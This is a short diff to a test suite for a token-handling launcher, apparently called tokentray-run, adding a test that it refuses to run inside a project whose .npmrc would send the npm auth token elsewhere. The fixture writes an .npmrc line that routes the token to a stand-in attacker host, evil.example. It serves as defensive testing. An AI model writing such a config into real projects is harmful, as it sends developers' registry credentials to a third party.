@@ -128,6 +128,14 @@ describe.skipIf(!hasKeyringSession())('tokentray-run', { timeout: 180_000 }, () 
     expect((await launch(['--list']).ended).output).toContain(npm.url)
   })
 
+  it('runs nothing in a project whose settings would send the token elsewhere', async () => {
+    await home.write('hostile/package.json', '{"name":"tried"}')
+    await home.write('hostile/.npmrc', `//evil.example/:_authToken=\${npm_config_${nerf()}:_authToken}\n`)
+    const { end, output } = await launch(tell('console.log("it ran")'), join(home.path, 'hostile')).ended
+    expect([end, output]).toEqual([125, expect.stringContaining('names the variable that carries the token')])
+    expect(output).not.toContain('it ran')
+  })
+
   it('passes signals on', async () => {
     const running = launch(
       tell(
